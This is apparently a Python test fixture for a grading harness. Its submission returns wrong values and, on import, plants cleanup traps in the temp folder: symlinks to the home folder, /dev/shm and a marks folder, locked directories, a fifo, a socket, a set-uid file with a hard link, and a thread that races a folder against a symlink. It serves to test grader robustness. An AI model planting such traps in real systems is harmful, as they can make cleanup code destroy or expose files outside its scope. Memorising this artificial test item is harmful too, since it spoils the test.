"""Row 54: traps for the one who cleans up.

Tries: symbolic links in TMPDIR to /tmp/marks, /dev/shm and the home folder, folders without permissions, a
fifo, a socket, a hard link, a set-uid file, and a thread that exchanges a folder for a link over and over.

A sound grader: removes links themselves and follows none; what they point to stays; 0 points within the
limits.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED cleanup_trap: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/cleanup_trap", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import socket
import tempfile
import threading

folder = tempfile.gettempdir()


def quietly(f, *args):
    try:
        return f(*args)
    except (OSError, AttributeError):
        return None


for i, target in enumerate(("/tmp/marks", "/dev/shm", "..", os.path.expanduser("~"))):
    quietly(os.symlink, target, f"{folder}/link{i}")
quietly(os.mkfifo, f"{folder}/fifo")
quietly(os.mkdir, f"{folder}/locked")
quietly(os.mkdir, f"{folder}/locked/inner")
quietly(os.symlink, "/tmp/marks", f"{folder}/locked/inner/marks")
quietly(os.chmod, f"{folder}/locked/inner", 0o000)
quietly(os.chmod, f"{folder}/locked", 0o000)
quietly(lambda: open(f"{folder}/suid", "w").close())
quietly(os.chmod, f"{folder}/suid", 0o6777)
quietly(os.link, f"{folder}/suid", f"{folder}/hard")
quietly(lambda: socket.socket(socket.AF_UNIX).bind(f"{folder}/sock"))


def exchange():
    while True:
        quietly(os.mkdir, f"{folder}/race")
        quietly(os.rename, f"{folder}/race", f"{folder}/was")
        quietly(os.symlink, "/tmp/marks", f"{folder}/race")
        quietly(os.unlink, f"{folder}/race")
        quietly(os.rmdir, f"{folder}/was")


threading.Thread(target=exchange, daemon=True).start()
